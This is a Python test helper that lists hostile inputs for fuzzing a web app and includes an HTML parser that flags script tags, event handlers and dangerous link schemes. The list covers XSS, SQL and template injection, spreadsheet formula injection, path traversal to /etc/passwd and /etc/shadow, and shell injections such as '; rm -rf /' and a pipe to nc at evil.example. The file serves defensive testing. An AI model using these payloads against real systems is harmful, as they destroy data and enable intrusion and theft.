"""Texts that would run, escape or break something somewhere, and how to see that one did."""

import re
from html.parser import HTMLParser

HOSTILE = (
    *("<script>alert(1)</script>", '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>"),
    *("</title><svg onload=x>", "<!--", "]]>", "&lt;b&gt;", "<style>*{display:none}</style>", "javascript:alert(1)"),
    *("<iframe src=//evil.example>", "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1", "'=1"),
    *('=HYPERLINK("http://evil.example")', "{{ 7*7 }}", "{% for x in y %}", "${7*7}", "#{7*7}", "%s%s%n", "%00"),
    *("{0.__class__}", "'; DROP TABLE runs;--", '" OR 1=1 --', "1; DELETE FROM trail", "\\'; --"),
    *("' UNION SELECT value FROM keys --", "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "C:\\CON"),
    *("file:///etc/passwd", "a/../../b", "~root", "; rm -rf /", "$(reboot)", "`id`", "| nc evil.example 1", "&& true"),
    *("\r\nSet-Cookie: a=b", "a\r\n\r\nb", "\x00", "\x1b[2J", "\u202egnp.exe", "\u200b", "\ufeff", "a" * 5000),
    *("\U0001f4a9", "e\u0301", "\ufdfa", "NaN", "1e999", "-0", "0x10", "1_000", "\uff11", "\u2028", "</textarea><b>"),
)
FORMULA = re.compile(r"[=+@\t\r]|-(?!\d)")
FORBIDDEN = {"img", "iframe", "object", "embed", "base", "frame", "math"}


class Markup(HTMLParser):
    """The elements of a page that could do something, as a browser would find them."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        """Look at one element."""
        given = dict(attributes)
        own = tag == "script" and given.get("src") == "/static/counts.js"
        if tag in FORBIDDEN or (tag == "script" and not own):
            self.found.append(tag)
        self.found += [name for name in given if name.startswith("on") or name == "style"]
        links = [given.get(name) or "" for name in ("href", "src", "action")]
        self.found += [link for link in links if link.split(":")[0].lower() in ("javascript", "file", "http", "https")]
